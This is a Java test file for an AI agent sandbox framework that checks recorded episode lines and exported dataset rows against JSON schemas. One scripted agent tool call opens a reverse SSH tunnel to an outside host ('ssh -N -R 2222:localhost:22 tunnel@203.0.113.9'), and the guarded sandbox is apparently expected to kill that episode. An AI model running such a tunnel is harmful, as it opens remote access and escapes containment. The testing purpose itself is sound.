package dev.ale.runs.wire;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.ale.agent.loop.AgentLoop;
import dev.ale.agent.loop.LoopSettings;
import dev.ale.agent.policy.Policy;
import dev.ale.agent.policy.ReplayPolicy;
import dev.ale.agent.policy.ScriptedPolicy;
import dev.ale.agent.policy.ScriptedPolicy.ScriptedCall;
import dev.ale.agent.tool.Toolbox;
import dev.ale.containment.TestContainment;
import dev.ale.core.episode.Trajectory;
import dev.ale.core.passport.Passport;
import dev.ale.core.task.Task;
import dev.ale.episode.EpisodeRunner;
import dev.ale.episode.EpisodeSpec;
import dev.ale.episode.SumTask;
import dev.ale.episode.trajectory.TrajectoryLine;
import dev.ale.episode.wire.SchemaSubset;
import dev.ale.runs.RunSpec;
import dev.ale.runs.RunStore;
import dev.ale.runs.export.Atif;
import dev.ale.runs.export.AtifRules;
import dev.ale.runs.export.Dataset;
import java.io.IOException;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.OptionalLong;
import java.util.function.Consumer;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * docs/schemas/trajectory-line.schema.json and dataset-line.schema.json describe what ALE really
 * writes: real episodes in real guarded sandboxes (passed, failed with a cause, killed, ended by the
 * infrastructure), appended by RunStore as a run and a trainer do, then exported by Dataset.
 */
@Tag("root")
class RunLinesSchemaTest {

    @RegisterExtension
    static final TestContainment containment = new TestContainment();

    @TempDir
    static Path dir;
    private static List<JsonNode> lines;

    private static final Path TRAJECTORY = SchemaSubset.schema("trajectory-line.schema.json");
    private static final Path DATASET = SchemaSubset.schema("dataset-line.schema.json");

    @BeforeAll
    static void runEpisodes() throws IOException {
        EpisodeRunner runner = new EpisodeRunner(containment.containment(), new AgentLoop(Toolbox.standard(), LoopSettings.defaults()));
        Task task = SumTask.in(dir.resolve("task"));
        Task failingSetup = SumTask.in(dir.resolve("broken"), Passport.defaults(), "echo 'no such tool' >&2; exit 7\n");
        RunSpec spec = new RunSpec("schema-run", List.of(task), 1, 1, OptionalLong.empty());
        try (RunStore store = RunStore.create(dir.resolve("out"), spec, "mixed")) {
            Map<String, Object> trainer = new LinkedHashMap<>();
            trainer.put("iteration", 2);
            trainer.put("arm", "guarded");
            trainer.put("hack", false);
            append(store, runner, task, ReplayPolicy.ofSolution(SumTask.SOLUTION), "passed", List.of(), trainer);
            append(store, runner, task, script(new ScriptedCall("shell", "{\"command\":\"echo 5 > sum.txt; exit 3\"}")), "failed",
                    List.of(), Map.of());
            append(store, runner, task, script(new ScriptedCall("shell", "{\"command\":\"ssh -N -R 2222:localhost:22 tunnel@203.0.113.9\"}")),
                    "killed", List.of("sandbox did not start: test"), trainer);
            Map<String, Object> server = new LinkedHashMap<>();
            server.put("env", "env-0123");
            server.put("seed", null);
            server.put("group", "g1");
            server.put("sample", 3);
            server.put("model_calls", List.of());
            append(store, runner, failingSetup, script(), "infra", List.of(), server);
            lines = store.lines();
        }
    }

    private static ScriptedPolicy script(ScriptedCall... calls) {
        return ScriptedPolicy.ofCalls("scripted", List.of(calls));
    }

    private static void append(RunStore store, EpisodeRunner runner, Task task, Policy policy, String name, List<String> retried,
                               Map<String, ?> extra) {
        Trajectory t = runner.run(task, policy, new EpisodeSpec("schema-run." + name + ".0", 0, OptionalLong.of(1)), s -> { });
        store.append(t, task.passport(), retried, extra);
    }

    private static JsonNode line(String name) {
        return lines.stream().filter(l -> l.path("episode").asText().equals("schema-run." + name + ".0")).findFirst().orElseThrow();
    }

    @Test
    void theEpisodesCoverWhatTheSchemaHasToDescribe() {
        assertThat(line("passed").path("passed").asBoolean()).isTrue();
        assertThat(line("passed").path("verifier").isObject()).isTrue();
        assertThat(line("failed").path("cause").asText()).contains("last command exited 3");
        assertThat(line("failed").path("verifier").path("fraction").asDouble()).isEqualTo(0.25);
        assertThat(line("killed").path("end").asText()).isEqualTo("killed");
        assertThat(line("killed").path("events")).isNotEmpty();
        assertThat(line("killed").path("steps").get(0).path("tool_calls").get(0).path("events")).isNotEmpty();
        assertThat(line("killed").path("verifier").isNull()).isTrue();
        assertThat(line("infra").path("end").asText()).isEqualTo("infrastructure");
        assertThat(line("infra").has("reward")).isFalse();
    }

    @Test
    void everyRealLineReadsBackThroughTheOneReader() {
        for (JsonNode l : lines) {
            TrajectoryLine read = TrajectoryLine.read(l);
            assertThat(read.episode()).isEqualTo(l.path("episode").asText());
            assertThat(read.end()).isEqualTo(l.path("end").asText());
            assertThat(read.steps()).isEqualTo(l.path("steps").size());
            assertThat(read.reward().isPresent()).isEqualTo(l.has("reward"));
        }
        assertThat(TrajectoryLine.read(line("killed")).reward().orElseThrow().killed()).isTrue();
        assertThat(TrajectoryLine.read(line("killed")).retried()).containsExactly("sandbox did not start: test");
        assertThat(TrajectoryLine.read(line("killed")).iteration()).hasValue(2);
        assertThat(TrajectoryLine.read(line("infra")).group()).hasValue("g1");
        assertThat(TrajectoryLine.read(line("infra")).sample()).hasValue(3);
    }

    @Test
    void everyRealEpisodeLineConforms() {
        assertThat(lines).hasSize(4);
        for (JsonNode l : lines) assertThat(SchemaSubset.errors(TRAJECTORY, l)).as(l.path("episode").asText()).isEmpty();
    }

    @Test
    void theDatasetExportedFromThoseLinesConforms() {
        List<ObjectNode> rows = Dataset.of(lines, 0.9);

        assertThat(rows).extracting(r -> r.path("episode").asText())
                .containsExactlyInAnyOrder("schema-run.passed.0", "schema-run.failed.0", "schema-run.killed.0");
        for (ObjectNode r : rows) assertThat(SchemaSubset.errors(DATASET, r)).as(r.toString()).isEmpty();
    }

    @Test
    void theAtifTrajectoriesOfThoseLinesAreValidAtif() {
        List<Atif.Episode> trajectories = Atif.of(lines, "test", 0.9);

        assertThat(trajectories).hasSize(4);
        for (Atif.Episode e : trajectories) assertThat(AtifRules.errors(e.trajectory())).as(e.trajectory().toString()).isEmpty();
        JsonNode killed = trajectories.stream().filter(e -> e.episode().equals("schema-run.killed.0")).findFirst().orElseThrow().trajectory();
        assertThat(killed.path("extra").path("ale").path("events")).isNotEmpty();
        assertThat(killed.path("final_metrics").path("extra").path("reward").path("killed").asBoolean()).isTrue();
        assertThat(killed.path("steps").valueStream().filter(s -> s.path("source").asText().equals("agent")).findFirst().orElseThrow()
                .path("extra").path("ale").path("tool_calls").get(0).path("events")).isNotEmpty();
    }

    /** So that the tests above can fail: each damage is one the trajectory schema must catch, down into the events it refers to. */
    @Test
    void theTrajectorySchemaRefusesMalformedLines() {
        List<Consumer<ObjectNode>> damages = List.of(
                j -> j.remove("verifier"),
                j -> j.put("end", "crashed"),
                j -> j.put("passed", "yes"),
                j -> j.put("unknown", 1),
                j -> ((ObjectNode) j.path("verifier")).put("exit_code", "1"),
                j -> ((ObjectNode) j.path("steps").get(0)).remove("tool_calls"),
                j -> ((ObjectNode) j.path("steps").get(0).path("tool_calls").get(0)).put("status", "OK"),
                j -> ((ObjectNode) j.path("steps").get(0).path("tool_calls").get(0).path("events").get(0)).put("severity", "HIGH"),
                j -> ((ObjectNode) j.path("events").get(0)).remove("passport"),
                j -> ((ObjectNode) j.path("messages").get(0)).put("role", "robot"),
                j -> ((ObjectNode) j.path("reward")).put("total", "1"),
                j -> j.putArray("model_calls").addObject().put("index", 0));
        for (Consumer<ObjectNode> damage : damages) {
            ObjectNode json = line("killed").deepCopy();
            json.putObject("verifier").put("passed", false).putNull("fraction").put("score", 0).put("exit_code", 1)
                    .put("duration_ms", 3).put("log", "");
            assertThat(SchemaSubset.errors(TRAJECTORY, json)).as("undamaged").isEmpty();
            damage.accept(json);
            assertThat(SchemaSubset.errors(TRAJECTORY, json)).as(json.toString()).isNotEmpty();
        }
    }

    @Test
    void theDatasetSchemaRefusesMalformedRows() {
        List<Consumer<ObjectNode>> damages = List.of(
                j -> j.remove("advantage"),
                j -> j.put("group", 7),
                j -> ((ObjectNode) j.path("steps").get(0)).remove("return"),
                j -> ((ObjectNode) j.path("reward")).remove("killed"),
                j -> j.put("end", "finished"));
        for (Consumer<ObjectNode> damage : damages) {
            // a row shares its messages and reward with the episode line it came from: damage a copy
            ObjectNode json = Dataset.of(lines, 0.9).getFirst().deepCopy();
            damage.accept(json);
            assertThat(SchemaSubset.errors(DATASET, json)).as(json.toString()).isNotEmpty();
        }
    }
}
